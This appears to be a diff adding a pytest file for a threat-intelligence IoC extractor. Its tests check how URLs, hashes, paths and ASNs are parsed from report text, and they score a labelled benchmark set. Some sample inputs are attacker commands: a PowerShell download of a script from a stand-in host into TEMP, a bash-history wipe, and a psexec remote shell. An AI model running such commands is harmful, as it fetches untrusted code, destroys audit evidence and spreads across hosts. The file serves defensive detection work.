@@ -1,0 +1,206 @@
+"""IoC precision and recall bugs found with the labelled set (one test each), and the bar on
+the labelled set itself: `benchmarks/data/ioc_labelled.jsonl`, written for this project."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from mitremap.iocs import extract_iocs
+
+BENCHMARKS = Path(__file__).resolve().parents[1] / "benchmarks"
+LABELLED = BENCHMARKS / "data" / "ioc_labelled.jsonl"
+
+
+def found(text: str) -> set[tuple[str, str]]:
+    return {(i.type, i.value) for i in extract_iocs(text)}
+
+
+def offsets_hold(text: str) -> None:
+    for i in extract_iocs(text):
+        assert text[i.start : i.end] == i.raw, i
+
+
+# --- precision ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["blocked 198.51.100.0/22.", "ranges 10.0.0.0/8. Then", "(45.134.26.0/24.)"],
+)
+def test_cidr_block_at_the_end_of_a_sentence_is_no_url(text: str) -> None:
+    assert found(text) == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See section 4.2.1.3 of the spec",
+        "and Table 2.1.1.4 for the full list",
+        'config {"version": "2.1.4.7", "sleep": 60}',
+        "revision 3.1.4.1 of 2024-06-30",
+        "Fig. 1.2.3.4 shows the flow",
+        "the bug was fixed in 9.1.18.2",
+    ],
+)
+def test_section_table_and_keyed_version_numbers_are_no_ipv4(text: str) -> None:
+    assert found(text) == set()
+
+
+def test_version_column_of_a_markdown_table_is_no_ipv4() -> None:
+    table = (
+        "| Vulnerability | Product | Fixed in |\n|---|---|---|\n"
+        "| CVE-2023-46805 | Ivanti Connect Secure | 22.6.1.1 |\n"
+        "| CVE-2024-21887 | Ivanti Policy Secure | 9.1.18.2 |"
+    )
+    assert found(table) == {("cve", "CVE-2023-46805"), ("cve", "CVE-2024-21887")}
+
+
+def test_ip_column_of_a_markdown_table_stays_ipv4() -> None:
+    table = "| Indicator | Type |\n|---|---|\n| 4.3.2.1 | IPv4 |\n| 45.142.214[.]48 | IPv4 |"
+    assert found(table) == {("ipv4", "4.3.2.1"), ("ipv4", "45.142.214.48")}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Shellcode (hex): fc4883e4f0e8c0000000415141505251 then",
+        "dump 4d5a90000300000004000000ffff0000 MZ",
+    ],
+)
+def test_hex_with_a_run_of_zeros_is_shellcode_not_a_hash(text: str) -> None:
+    assert found(text) == set()
+
+
+def test_unc_host_without_a_share_is_no_path() -> None:
+    assert found(r"ran psexec.exe \\FS01 -s cmd") == {("file_name", "psexec.exe")}
+    assert ("windows_path", r"\\FS01\share\x.exe") in found(r"copied to \\FS01\share\x.exe")
+
+
+@pytest.mark.parametrize(
+    "text", [r"mutex Global\MSCTF.Asm.{A3F2} set", r"event Local\Mtx.1 and Session\1\a.b"]
+)
+def test_kernel_object_names_are_no_paths(text: str) -> None:
+    assert not {kind for kind, _ in found(text)} & {"windows_path", "registry_key"}
+
+
+@pytest.mark.parametrize(
+    ("text", "paths"),
+    [
+        (
+            r"ran C:\Windows\Temp\svchost.exe. Also %TEMP%\a.bat, then",
+            {r"C:\Windows\Temp\svchost.exe", r"%TEMP%\a.bat"},
+        ),
+        (
+            r"copied \\FS01\share\x.exe and Global\MSCTF.Asm.{A3F2}",
+            {r"\\FS01\share\x.exe"},
+        ),
+    ],
+)
+def test_a_windows_path_does_not_run_on_into_the_next_sentence(text: str, paths: set) -> None:
+    assert {v for kind, v in found(text) if kind == "windows_path"} == paths
+
+
+def test_file_names_inside_url_paths_are_no_file_indicators() -> None:
+    text = 'POST /vpn/../vpns/portal/scripts/newbm.pl and GET /wp-admin/admin-ajax.php "-"'
+    assert found(text) == set()
+    assert found("the script newbm.pl ran") == {("file_name", "newbm.pl")}
+
+
+def test_a_comma_ends_a_url_path_in_csv_but_not_in_a_query() -> None:
+    text = "hxxp://files-dropbox-share[.]com/d/inv.iso,url,high and http://a.com/q?ids=1,2,3 ok"
+    assert found(text) == {
+        ("url", "http://files-dropbox-share.com/d/inv.iso"),
+        ("url", "http://a.com/q?ids=1,2,3"),
+    }
+
+
+# --- PDF line breaks ---------------------------------------------------------------------------
+
+
+def test_url_broken_after_a_hyphen_of_its_host_is_joined() -> None:
+    text = "C2 at hxxps://update-service-\nnode[.]com/gate and, if that fails"
+    assert found(text) == {("url", "https://update-service-node.com/gate")}
+    offsets_hold(text)
+
+
+def test_domain_and_email_broken_after_a_hyphen_are_joined() -> None:
+    text = "contacts evil-\ndomain[.]com daily; mail accounts@globalfreight-\nlogistics[.]com."
+    assert found(text) == {
+        ("domain", "evil-domain.com"),
+        ("email", "accounts@globalfreight-logistics.com"),
+    }
+    offsets_hold(text)
+
+
+def test_the_tail_of_a_broken_name_is_no_domain_of_its_own() -> None:
+    assert found("the host is a.evil-\nlogistics.com now") == set()
+    assert found("a list -\nevil.com") == {("domain", "evil.com")}
+
+
+def test_file_name_glued_to_a_hash_by_pdf_extraction() -> None:
+    sha1 = "100a8fc54d02b13f9be84ce8d6758c85f2c2b7aa"
+    assert found(f"Name SHA-1\nchrome_update.exe{sha1}\n") == {
+        ("file_name", "chrome_update.exe"),
+        ("sha1", sha1),
+    }
+
+
+# --- recall ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "asn"),
+    [("a node in AS 399629.", "AS399629"), ("| RU | AS 57523 |", "AS57523")],
+)
+def test_asn_written_with_a_space(text: str, asn: str) -> None:
+    assert found(text) == {("asn", asn)}
+
+
+def test_as_followed_by_a_short_number_is_no_asn() -> None:
+    assert found("KNOWN AS 12 GROUPS") == set()
+
+
+def test_powershell_env_path_keeps_its_prefix() -> None:
+    assert ("windows_path", r"$env:TEMP\s.ps1") in found(r"iwr http://x.com/s -o $env:TEMP\s.ps1")
+
+
+def test_home_dotfile_is_a_unix_path() -> None:
+    assert found("rm -rf ~/.bash_history now") == {("unix_path", "~/.bash_history")}
+
+
+def test_file_sharing_services_with_extension_tlds_are_domains() -> None:
+    assert found("uploaded to transfer.sh and temp.sh") == {
+        ("domain", "transfer.sh"),
+        ("domain", "temp.sh"),
+    }
+
+
+# --- the labelled set ----------------------------------------------------------------------------
+
+
+def test_labelled_set_is_well_formed() -> None:
+    records = [json.loads(line) for line in LABELLED.read_text(encoding="utf-8").splitlines()]
+    assert len(records) >= 100
+    assert sum(len(r["iocs"]) for r in records) >= 300
+    assert sum(len(r["traps"]) for r in records) >= 100
+    for record in records:
+        for trap in record["traps"]:
+            assert trap in record["text"], (record["id"], trap)
+        for ioc in record["iocs"] + record["optional"]:
+            assert set(ioc) <= {"type", "value", "private"}, record["id"]
+
+
+def test_labelled_set_precision_and_f1(monkeypatch: pytest.MonkeyPatch) -> None:
+    """MitreMap on the project's labelled set: precision >= 0.98 and F1 >= 0.96."""
+    monkeypatch.syspath_prepend(str(BENCHMARKS))  # the benchmarks are scripts, not a package
+    from bench_iocs_accuracy import score_mitremap
+
+    score = score_mitremap(LABELLED)
+    precision, recall, f1, *_ = score.prf()
+    errors = "\n".join(score.errors)
+    assert precision >= 0.98, f"precision {precision:.3f}\n{errors}"
+    assert f1 >= 0.96, f"F1 {f1:.3f} (recall {recall:.3f})\n{errors}"
+    assert score.trap_hits == 0, errors
